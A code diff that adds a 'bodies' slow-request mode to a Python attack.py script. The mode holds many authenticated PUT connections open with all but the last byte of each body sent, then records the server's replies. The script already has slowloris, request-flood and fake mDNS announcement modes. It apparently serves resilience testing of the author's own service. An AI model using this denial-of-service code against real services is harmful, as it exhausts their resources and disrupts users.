@@ -10,6 +10,9 @@ and prints one JSON line of what it saw.
       Unauthenticated GETs with long paths on keep-alive connections; reports the statuses.
   attack.py mdns COUNT SECONDS PORT
       Announces COUNT fake _loopsy._tcp nodes with avahi-publish for SECONDS.
+  attack.py bodies HOST PORT KEYFILE CONNECTIONS BYTES SECONDS
+      Opens CONNECTIONS context PUTs of BYTES each with the key in KEYFILE, sends all of each body but its last
+      byte, waits SECONDS, then ends every body; reports each answer's status and error code.
 """
 import json
 import os
@@ -116,6 +119,34 @@ def flood(host, port, requests, path_bytes):
     print(json.dumps({"sent": sent, "statuses": statuses}))
 
 
+def bodies(host, port, key_file, count, length, seconds):
+    with open(key_file) as handle:
+        key = handle.read().strip()
+    head = (f"PUT /api/v1/context/held HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {key}\r\n"
+            f"Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n").encode()
+    socks = []
+    for _ in range(count):
+        sock = socket.create_connection((host, port), timeout=30)
+        sock.sendall(head + b"v" * (length - 1))
+        socks.append(sock)
+    time.sleep(seconds)
+    answers = []
+    for sock in socks:
+        sock.sendall(b"v")
+        reply = b""
+        while b"\r\n\r\n" not in reply or not reply.rstrip().endswith(b"}"):
+            chunk = sock.recv(65536)
+            if not chunk:
+                break
+            reply += chunk
+        text = reply.decode("utf-8", "replace")
+        status = int(text.split(" ", 2)[1]) if text.startswith("HTTP/") else 0
+        code = text.split('"code":"', 1)[1].split('"', 1)[0] if '"code":"' in text else ""
+        answers.append({"status": status, "code": code, "message": text.split('"message":"', 1)[-1][:120]})
+        sock.close()
+    print(json.dumps({"answers": answers}))
+
+
 def mdns(count, seconds, port):
     children = []
     for index in range(count):
@@ -140,6 +171,8 @@ def main():
         slowloris(args[0], int(args[1]), int(args[2]), float(args[3]), float(args[4]))
     elif kind == "flood" and len(args) == 4:
         flood(args[0], int(args[1]), int(args[2]), int(args[3]))
+    elif kind == "bodies" and len(args) == 6:
+        bodies(args[0], int(args[1]), args[2], int(args[3]), int(args[4]), float(args[5]))
     elif kind == "mdns" and len(args) == 3:
         mdns(int(args[0]), float(args[1]), int(args[2]))
     else:
